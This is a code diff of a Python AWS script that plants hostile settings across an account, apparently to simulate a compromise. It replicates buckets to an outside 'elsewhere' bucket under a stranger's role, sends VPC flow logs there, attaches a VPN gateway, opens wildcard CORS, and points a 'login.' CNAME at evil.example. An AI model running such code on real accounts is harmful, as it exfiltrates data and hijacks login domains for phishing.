@@ -84,19 +84,12 @@ def buckets():
     s3 = client("s3")
     names = [each["Name"] for each in s3.list_buckets()["Buckets"] if each["Name"].startswith(PREFIX)]
     for name in names:
-        if "-state-" in name or "-logs" in name:
+        if "-state-" in name or "-logs" in name or "-uploads-" in name:
             continue
         configuration = {"IndexDocument": {"Suffix": "index.html"}}
         add("website configuration", name, s3.put_bucket_website, Bucket=name, WebsiteConfiguration=configuration)
-        add("access control list", name, s3.put_bucket_acl, Bucket=name, ACL="public-read")
-        inventory = {
-            "Destination": {"S3BucketDestination": {"Bucket": "arn:aws:s3:::elsewhere", "Format": "CSV"}},
-            "IsEnabled": True,
-            "Id": "all",
-            "IncludedObjectVersions": "Current",
-            "Schedule": {"Frequency": "Daily"},
-        }
-        add("inventory", "all", s3.put_bucket_inventory_configuration, Bucket=name, Id="all", InventoryConfiguration=inventory)
+        origins = {"CORSRules": [{"AllowedMethods": ["GET"], "AllowedOrigins": ["*"]}]}
+        add("CORS configuration", name, s3.put_bucket_cors, Bucket=name, CORSConfiguration=origins)
         rule = {"ID": "copy", "Status": "Enabled", "Priority": 1, "Filter": {"Prefix": ""}, "DeleteMarkerReplication": {"Status": "Disabled"}}
         rule["Destination"] = {"Bucket": "arn:aws:s3:::elsewhere"}
         copy = {"Role": f"arn:aws:iam::{STRANGER}:role/copy", "Rules": [rule]}
@@ -139,6 +132,11 @@ def network():
         connection = peering["VpcPeeringConnection"]["VpcPeeringConnectionId"]
         route = {"DestinationCidrBlock": "172.20.0.0/16", "VpcPeeringConnectionId": connection}
         add("route", "172.20.0.0/16", ec2.create_route, RouteTableId=table, **route)
+    add("subnet", "subnet-", ec2.create_subnet, VpcId=vpc, CidrBlock=ec2.describe_vpcs(VpcIds=[vpc])["Vpcs"][0]["CidrBlock"].replace(".0.0/16", ".255.0/28"))
+    vpn = ec2.create_vpn_gateway(Type="ipsec.1")["VpnGateway"]["VpnGatewayId"]
+    add("VPN gateway", vpn, ec2.attach_vpn_gateway, VpnGatewayId=vpn, VpcId=vpc)
+    log = {"ResourceType": "VPC", "TrafficType": "ALL", "LogDestinationType": "s3", "LogDestination": "arn:aws:s3:::elsewhere"}
+    add("flow log", "fl-", ec2.create_flow_logs, ResourceIds=[vpc], **log)
     endpoint = {"VpcId": vpc, "ServiceName": "com.amazonaws.eu-central-1.dynamodb", "VpcEndpointType": "Gateway"}
     add("VPC endpoint", "vpce-", ec2.create_vpc_endpoint, **endpoint)
     acl = first(each for each in ec2.describe_network_acls(Filters=inside)["NetworkAcls"] if each["IsDefault"])
@@ -149,11 +147,12 @@ def network():
 
 def names():
     route53 = client("route53")
-    zone = first(each["Id"] for each in route53.list_hosted_zones()["HostedZones"])
-    if zone:
-        record = {"Name": "login.backlot.example", "Type": "CNAME", "TTL": 60, "ResourceRecords": [{"Value": "evil.example"}]}
+    found = first(route53.list_hosted_zones()["HostedZones"])
+    if found:
+        zone, name = found["Id"], f"login.{found['Name']}".rstrip(".")
+        record = {"Name": name, "Type": "CNAME", "TTL": 60, "ResourceRecords": [{"Value": "evil.example"}]}
         batch = {"Changes": [{"Action": "CREATE", "ResourceRecordSet": record}]}
-        add("record", "login.backlot.example", route53.change_resource_record_sets, HostedZoneId=zone, ChangeBatch=batch)
+        add("record", name, route53.change_resource_record_sets, HostedZoneId=zone, ChangeBatch=batch)
 
 
 def watching():
